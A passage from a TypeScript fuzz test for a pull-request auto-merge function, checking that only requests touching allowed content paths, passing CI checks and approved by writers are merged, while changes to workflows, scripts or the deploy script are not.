      { files: (i) => ({ [`photos/fuzz/${i}.jpg`]: `photo ${i}` }), ok: true },
      { files: (i) => ({ [`pages/_redirects/fuzz-${i}.json`]: `{ "from": "/old-${i}", "to": "/fuzz/${i}" }\n` }), ok: true },
      { files: (i) => ({ [`.github/workflows/fuzz-${i}.yml`]: 'on: push\n' }), ok: false },
      { files: (i) => ({ [`scripts/fuzz-${i}.sh`]: 'echo\n' }), ok: false },
      { files: (i) => ({ [`pagesx/${i}.json`]: '{}\n' }), ok: false },
      {
        files: (i) => ({ 'scripts/deploy.sh': null, [`pages/moved-${i}.sh`]: '#!/bin/sh\nnetlify deploy --prod --dir dist\n' }),
        ok: false,
      },
    ];
    type Runs = Parameters<typeof api.reviewing.setChecks>[1];
    type Statuses = Parameters<typeof api.reviewing.setStatuses>[1];
    const checkSets: { runs: Runs; statuses: Statuses; ok: boolean }[] = [
      { runs: [{ name: 'build', status: 'completed', conclusion: 'success' }], statuses: [], ok: true },
      { runs: [], statuses: [{ context: 'deploy', state: 'success' }], ok: true },
      {
        runs: [
          { name: 'a', status: 'completed', conclusion: 'skipped' },
          { name: 'b', status: 'completed', conclusion: 'success' },
        ],
        statuses: [],
        ok: true,
      },
      { runs: [], statuses: [], ok: false },
      { runs: [{ name: 'build', status: 'completed', conclusion: 'skipped' }], statuses: [], ok: false },
      { runs: [{ name: 'build', status: 'completed', conclusion: 'failure' }], statuses: [], ok: false },
      { runs: [{ name: 'build', status: 'in_progress' }], statuses: [], ok: false },
      {
        runs: [{ name: 'build', status: 'completed', conclusion: 'success' }],
        statuses: [{ context: 'deploy', state: 'pending' }],
        ok: false,
      },
    ];
    const reviewSets: { user: string; state: 'APPROVED' | 'CHANGES_REQUESTED' }[][] = [
      [],
      [{ user: 'dev', state: 'APPROVED' }],
      [{ user: 'lead', state: 'APPROVED' }],
      [{ user: 'mallory', state: 'APPROVED' }],
      [{ user: 'reader', state: 'APPROVED' }],
      [
        { user: 'dev', state: 'APPROVED' },
        { user: 'lead', state: 'CHANGES_REQUESTED' },
      ],
      [
        { user: 'lead', state: 'APPROVED' },
        { user: 'mallory', state: 'CHANGES_REQUESTED' },
      ],
      [
        { user: 'dev', state: 'CHANGES_REQUESTED' },
        { user: 'dev', state: 'APPROVED' },
      ],
    ];
    /** The oracle's approval rule: a writer's last word approves, and no writer's last word asks for changes. */
    const approvedByWriters = (reviews: { user: string; state: string }[]) => {
      const last = new Map(reviews.filter((r) => writers.has(r.user)).map((r) => [r.user, r.state]));
      return [...last.values()].includes('APPROVED') && ![...last.values()].includes('CHANGES_REQUESTED');
    };

    const cases: { number: number; qualifies: boolean }[] = [];
    for (const requireApproval of [false, true]) {
      const made = Array.from({ length: 12 }, () => {
        const i = cases.length;
        const spec = {
          body: choose(bodies),
          author: choose(authors),
          head: choose(heads),
          branch: choose(branches),
          base: choose(bases),
          extra: choose(extras),
          checks: choose(checkSets),
          reviews: pick(reviewSets),
        };
        const qualifies =
          Object.values(spec).every((part) => !('ok' in part) || part.ok) && (!requireApproval || approvedByWriters(spec.reviews));
        cases.push({ number: 0, qualifies });
        return { i, ...spec };
      });
      // All of this round's branches in one git fast-import: one commit each, on its base, adding its own page.
      const from = { main: git(['rev-parse', 'refs/heads/main']), release: git(['rev-parse', 'refs/heads/release']) };
      const data = (text: string) => `data ${Buffer.byteLength(text)}\n${text}\n`;
      const stream = made
        .map(({ i, branch, base, extra }) => {
          const files = { [`pages/fuzz/${i}.json`]: `{ "title": "Fuzz ${i}" }\n`, ...extra.files(i) };
          const changes = Object.entries(files).map(([file, text]) =>
            text === null ? `D ${file}\n` : `M 100644 inline ${file}\n${data(text)}`,
          );
          return `commit refs/heads/${branch.name(i)}\nmark :${i + 1}\ncommitter Maya <maya@example.com> 1796633100 +0000\n${data(`Fuzz ${i}`)}from ${from[base.name as 'main' | 'release']}\n${changes.join('')}\n`;
        })
        .join('');
      const marks = path.join(site.bare, 'fuzz-marks');
      git(['fast-import', '--quiet', `--export-marks=${marks}`], { input: stream });
      const shas = new Map(
        readFileSync(marks, 'utf8')
          .trim()
          .split('\n')
          .map((mark) => mark.split(' ') as [string, string]),
      );
      for (const { i, body, author, head, branch, base, checks, reviews } of made) {
        const number = api.pulls.length + 1;
        cases[i]!.number = number;
        api.pulls.push({
          number,
          title: `Fuzz ${i}`,
          body: body.text,
          state: 'open',
          head: branch.name(i),
          base: base.name,
          user: author.login,
          ...(head.repo ? { headRepo: head.repo } : {}),
        });
        const sha = shas.get(`:${i + 1}`)!;
        api.reviewing.setChecks(sha, checks.runs);
        api.reviewing.setStatuses(sha, checks.statuses);
        for (const review of reviews) await api.reviewing.addReview(number, { ...review, body: '' });
      }
      await publishDuePulls({
        apiUrl: api.url,
        token: 'ghs_workflow',
        repository: 'rankharbor/site',
        requireApproval,
        now,
        wait: async () => undefined,
      });
    }
    for (const { number, qualifies } of cases) expect(Boolean(api.pulls[number - 1]!.merged), `#${number}`).toBe(qualifies);
    // The generator reached both sides: some merged, more not.
    expect(cases.filter((c) => c.qualifies).length).toBeGreaterThan(4);
    expect(cases.filter((c) => !c.qualifies).length).toBeGreaterThan(cases.length / 2);
    expect(git(['show', 'refs/heads/main:scripts/deploy.sh'])).toContain('netlify deploy');
    expect(git(['ls-tree', '-r', '--name-only', 'refs/heads/main'])).not.toMatch(/^(?:\.github|pagesx|scripts\/fuzz)/m);
  });
});
